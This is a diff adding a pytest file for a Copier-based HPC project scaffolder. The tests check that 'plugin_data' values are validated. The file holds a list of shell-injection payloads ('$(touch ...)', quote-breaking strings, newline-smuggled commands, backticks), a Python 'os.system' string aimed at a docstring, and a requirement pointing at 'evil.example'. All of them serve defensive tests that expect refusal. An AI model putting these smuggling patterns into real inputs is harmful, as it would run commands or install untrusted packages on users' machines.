@@ -1,0 +1,262 @@
+"""plugin_data: typed, validated on every render and update, computed job fields.
+
+plugin_data is recorded in the answers file and Copier accepts it with --data, so it is
+input; its values reach shell scripts. Each injection case below once wrote a payload
+into a generated script (issue 14); now each is refused with one line.
+"""
+
+from __future__ import annotations
+
+import ast
+import json
+import os
+import shutil
+import subprocess
+import warnings
+from pathlib import Path
+
+import copier
+import pytest
+import yaml
+
+from lumi_scaffold import cli, plugins
+from lumi_scaffold.plugin_data import SCHEMA, PluginData, PluginDataError, validate_plugin_data
+from lumi_scaffold.questions import resolve
+from lumi_scaffold.testing import answer_matrix
+
+from .helpers import DEFAULTS, REPO, render
+
+FIXTURES = Path(__file__).parent / "fixtures"
+SCHEMA_FILE = REPO / "lumi_scaffold" / "plugin_data.schema.json"
+PAYLOAD = "/tmp/lumi-scaffold-injected"
+
+
+def good() -> dict:
+    return resolve({**DEFAULTS, "site": "lumi", "framework": "pytorch", "nodes": 2, "partition": "standard-g",
+                    "gpus_per_node": 8, "walltime": "01:00:00", "container": "recommended", "launcher": "srun",
+                    "data_location": "scratch", "profiler": "none"}, plugins.get_catalogue())
+
+
+def tampered(path: str, value) -> dict:
+    """good() with one value replaced; ``path`` is dotted, list indexes as numbers."""
+    data = good()
+    *parents, last = [int(p) if p.isdigit() else p for p in path.split(".")]
+    node = data
+    for key in parents:
+        node = node[key]
+    node[last] = value
+    return data
+
+
+# Each case reached a generated file unchecked before: (field, payload, where it is reported).
+INJECTIONS = [
+    ("container.path", f'/x.sif"; touch {PAYLOAD}; echo "', "container.path"),            # job-env.sh
+    ("container.modules.0.name", f"x; touch {PAYLOAD}", "container.modules.0.name"),     # job-env.sh
+    ("env.0.value", f"$(touch {PAYLOAD})", "env.0.value"),                               # run.sh
+    ("site.display_name", f"LUMI\ntouch {PAYLOAD}", "site.display_name"),               # comments
+    ("job.slurm.train.0", f"--job-name=x\ntouch {PAYLOAD}", "job.slurm.train.0"),       # train.sbatch
+    ("job.binds.0", f"/pfs,$(touch {PAYLOAD})", "job.binds.0"),                          # job-env.sh
+    ("site.module_reset", f"purge; touch {PAYLOAD}", "site.module_reset"),               # job-env.sh
+    ("profiler.command", ["rocprof", f"`touch {PAYLOAD}`"], "profiler.command.1"),       # run-profile.sh
+    ("requirements", ["--index-url=https://evil.example/simple"], "requirements.0"),     # requirements.txt
+    ("package", "demo; touch", "package"),                                               # smoke-test.sbatch
+]
+
+
+@pytest.mark.parametrize("field,payload,reported", INJECTIONS, ids=[c[0] for c in INJECTIONS])
+def test_each_injection_is_refused_with_one_line_naming_the_field(field, payload, reported):
+    with pytest.raises(PluginDataError) as exc:
+        validate_plugin_data(tampered(field, payload))
+    message = exc.value.message
+    assert "\n" not in message
+    assert message.startswith(f"plugin_data.{reported}=") and "Fix: plugin_data is computed" in message, message
+
+
+def test_unknown_and_missing_keys_are_refused():
+    with pytest.raises(PluginDataError, match=r"^plugin_data\.hook='x': Extra inputs are not permitted"):
+        validate_plugin_data({**good(), "hook": "x"})
+    missing = good()
+    del missing["container"]["path"]
+    with pytest.raises(PluginDataError, match=r"plugin_data\.container\.path: Field required"):
+        validate_plugin_data(missing)
+    with pytest.raises(PluginDataError, match="expected a mapping, got str"):
+        validate_plugin_data("[]")
+
+
+def test_site_title_with_quotes_stays_inside_the_docstring(tmp_path, monkeypatch):
+    """A site title is one line of free text: the Python file escapes it for its string."""
+    real = plugins.get_catalogue()
+    title = 'LUMI """ ; import os ; os.system("touch /tmp/x") ; """ \\ end'
+    lumi = real.sites["lumi"].model_copy(update={"title": title})
+    cat = plugins.Catalogue(**{**vars(real), "sites": {**real.sites, "lumi": lumi}})
+    monkeypatch.setattr(plugins, "get_catalogue", lambda: cat)
+    project = render(REPO, tmp_path / "p")
+    source = (project / "src" / "demo" / "__init__.py").read_text()
+    tree = ast.parse(source)
+    assert len(tree.body) == 1 and ast.get_docstring(tree).endswith(f"for {title}.")
+
+
+def _new(tmp_path: Path, capsys, data: dict) -> tuple[int, str]:
+    dest = tmp_path / "p"
+    code = cli.main(["new", str(dest), "--defaults", "-q", "--vcs-ref", "HEAD", "-d", "project_name=demo", "-d", "account=project_465000000",
+                     "-d", f"plugin_data={json.dumps(data)}"])
+    err = capsys.readouterr().err.strip()
+    assert not dest.exists() or not any(dest.iterdir()), "a refused render left files behind"
+    return code, err
+
+
+@pytest.mark.parametrize("field,payload,reported", INJECTIONS[:3], ids=[c[0] for c in INJECTIONS[:3]])
+def test_new_refuses_plugin_data_given_with_data(tmp_path, capsys, field, payload, reported):
+    code, err = _new(tmp_path, capsys, tampered(field, payload))
+    assert code == 1 and len(err.splitlines()) == 1 and f"plugin_data: {reported}=" in err, err
+
+
+def test_copier_itself_refuses_it(tmp_path):
+    """Plain `copier copy --data plugin_data=...` goes through the question's validator."""
+    with warnings.catch_warnings(), pytest.raises(ValueError, match=r"'plugin_data': container\.path="):
+        warnings.simplefilter("ignore")
+        copier.run_copy(str(REPO), str(tmp_path / "p"), data={**DEFAULTS, "plugin_data": tampered(*INJECTIONS[0][:2])},
+                        defaults=True, unsafe=True, quiet=True, vcs_ref="HEAD")
+    assert not (tmp_path / "p" / "scripts").exists()
+
+
+def test_valid_plugin_data_given_with_data_is_accepted(tmp_path, capsys):
+    """What `copier update` does for the old render: the recorded plugin_data comes back as data."""
+    dest = tmp_path / "q"
+    assert cli.main(["new", str(dest), "--defaults", "-q", "--vcs-ref", "HEAD", "-d", "project_name=demo", "-d", "account=project_465000000",
+                     "-d", "nodes=2", "-d", f"plugin_data={json.dumps(good())}"]) == 0
+    assert (dest / "jobs" / "train.sbatch").is_file()
+
+
+def _git(cwd: Path, *args: str) -> str:
+    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout
+
+
+@pytest.fixture
+def committed_project(tmp_path) -> Path:
+    template = tmp_path / "template"
+    shutil.copytree(REPO, template, ignore=shutil.ignore_patterns(".git", "tests", "*.egg-info", "__pycache__", "docs"))
+    _git(template, "init", "-q")
+    _git(template, "add", "-A")
+    _git(template, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "t")
+    project = tmp_path / "project"
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        copier.run_copy(str(template), str(project), data=DEFAULTS, defaults=True, unsafe=True, quiet=True, vcs_ref="HEAD")
+    _git(project, "init", "-q")
+    _git(project, "add", "-A")
+    _git(project, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "generated")
+    return project
+
+
+def test_update_refuses_a_tampered_answers_file_before_copier_runs(committed_project, capsys):
+    answers = committed_project / ".copier-answers.yml"
+    text = answers.read_text()
+    path = good()["container"]["path"]
+    assert path in text
+    answers.write_text(text.replace(path, f"{path}; touch {PAYLOAD}"))
+    _git(committed_project, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qam", "colleague's commit")
+    before = {p: p.read_bytes() for p in committed_project.rglob("*") if p.is_file() and ".git" not in p.parts}
+    assert cli.main(["update", str(committed_project), "-q"]) == 1
+    err = capsys.readouterr().err.strip()
+    assert len(err.splitlines()) == 1 and ".copier-answers.yml: plugin_data.container.path=" in err, err
+    after = {p: p.read_bytes() for p in committed_project.rglob("*") if p.is_file() and ".git" not in p.parts}
+    assert after == before
+
+
+def test_update_refuses_plugin_data_given_with_data(committed_project, capsys):
+    bad = json.dumps(tampered("env.0.value", f"$(touch {PAYLOAD})"))
+    assert cli.main(["update", str(committed_project), "-q", "-d", f"plugin_data={bad}"]) == 1
+    err = capsys.readouterr().err.strip()
+    assert len(err.splitlines()) == 1 and "--data plugin_data.env.0.value=" in err, err
+
+
+def test_every_combination_validates_and_round_trips():
+    """What resolve writes for every combination of the matrix is valid plugin data that
+    reads back to the same dict (the answers file holds exactly what the model holds)."""
+    cat = plugins.get_catalogue()
+    seen = 0
+    for answers in answer_matrix():
+        data = resolve(answers, cat)
+        assert validate_plugin_data(data).dump() == data, answers
+        seen += 1
+    assert seen > 100
+
+
+@pytest.mark.parametrize("version", ["v0.1", "v0.2"])
+def test_old_answers_files_still_validate(version):
+    """plugin_data as lumi-scaffold 0.1 (57c4cd3) and 0.2 (1055597) recorded it (schema 1):
+    the fields added since have defaults, so their projects still update."""
+    data = json.loads((FIXTURES / f"plugin_data-{version}.json").read_text())
+    assert data["schema"] == 1
+    parsed = validate_plugin_data(data)
+    assert parsed.job.slurm == {} and parsed.package == ""  # computed fields came with schema 2
+    assert parsed.container.path == data["container"]["path"]
+
+
+def test_schema_is_checked_in():
+    """lumi_scaffold/plugin_data.schema.json is the model's JSON schema (for plugin authors
+    and tools reading answers files). Regenerate with LUMI_SCAFFOLD_UPDATE_GOLDEN=1."""
+    schema = json.dumps(PluginData.model_json_schema(by_alias=True), indent=2, sort_keys=True) + "\n"
+    if os.environ.get("LUMI_SCAFFOLD_UPDATE_GOLDEN"):
+        SCHEMA_FILE.write_text(schema)
+    assert SCHEMA_FILE.read_text() == schema, "rerun with LUMI_SCAFFOLD_UPDATE_GOLDEN=1 and review the diff"
+    assert json.loads(schema)["properties"]["schema"]["maximum"] == SCHEMA
+
+
+V02_COMMIT = "1055597"  # "Release 0.2.0" on main (the v0.2.0 tag did not travel with the repository)
+
+
+def _has_commit(commit: str) -> bool:
+    return subprocess.run(["git", "-C", str(REPO), "cat-file", "-e", f"{commit}^{{commit}}"], capture_output=True).returncode == 0
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(not _has_commit(V02_COMMIT), reason="needs the repository's history (a shallow clone lacks 0.2.0)")
+def test_a_project_made_by_0_2_updates_and_keeps_its_edits(tmp_path):
+    """The 0.2.0 template with the plugin_data 0.2.0 recorded (schema 1), updated to this
+    checkout's template: the old render replays the old shape, the new one computes schema 2."""
+    template = tmp_path / "template"
+    template.mkdir()
+    archive = subprocess.run(["git", "-C", str(REPO), "archive", V02_COMMIT, "copier.yml", "project-templates"],
+                             check=True, capture_output=True).stdout
+    subprocess.run(["tar", "-x"], input=archive, cwd=template, check=True)
+    _git(template, "init", "-q")
+    _git(template, "add", "-A")
+    _git(template, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "0.2.0")
+    _git(template, "tag", "v0.2.0")
+    shutil.rmtree(template / "project-templates")
+    shutil.copytree(REPO / "project-templates", template / "project-templates")
+    shutil.copy2(REPO / "copier.yml", template / "copier.yml")
+    _git(template, "add", "-A")
+    _git(template, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "now")
+    _git(template, "tag", "v0.3.0")
+
+    # The answers fixtures/plugin_data-v0.2.json was recorded with, and that plugin_data:
+    # the project is what 0.2.0 wrote (Copier takes the computed answer from --data).
+    answers = {"project_name": "demo", "account": "project_465000001", "nodes": 2, "profiler": "rocprofv3", "prestage": True}
+    v02 = json.loads((FIXTURES / "plugin_data-v0.2.json").read_text())
+    project = tmp_path / "project"
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        copier.run_copy(str(template), str(project), data={**answers, "plugin_data": v02}, defaults=True, unsafe=True,
+                        quiet=True, vcs_ref="v0.2.0")
+    from lumi_scaffold.update import ANSWERS_FILE
+
+    assert yaml.safe_load((project / ANSWERS_FILE).read_text())["plugin_data"] == v02
+    train = project / "jobs" / "train.sbatch"
+    train.write_text(train.read_text().replace("set -euo pipefail\n", "set -euo pipefail\n# our own line\n", 1))
+    _git(project, "init", "-q")
+    _git(project, "add", "-A")
+    _git(project, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "made by 0.2.0, edited")
+
+    assert cli.main(["update", str(project), "-q"]) == 0
+    after = yaml.safe_load((project / ANSWERS_FILE).read_text())
+    assert after["_commit"] == "v0.3.0" and after["plugin_data"]["schema"] == SCHEMA
+    assert "# our own line" in train.read_text() and "<<<<<<<" not in train.read_text()
+    assert (project / "scripts" / "image_packages.py").is_file()  # a file 0.2.0 did not have
+    fresh = tmp_path / "fresh"
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        copier.run_copy(str(template), str(fresh), data=answers, defaults=True, unsafe=True, quiet=True, vcs_ref="v0.3.0")
+    assert (project / "scripts" / "job-env.sh").read_text() == (fresh / "scripts" / "job-env.sh").read_text()
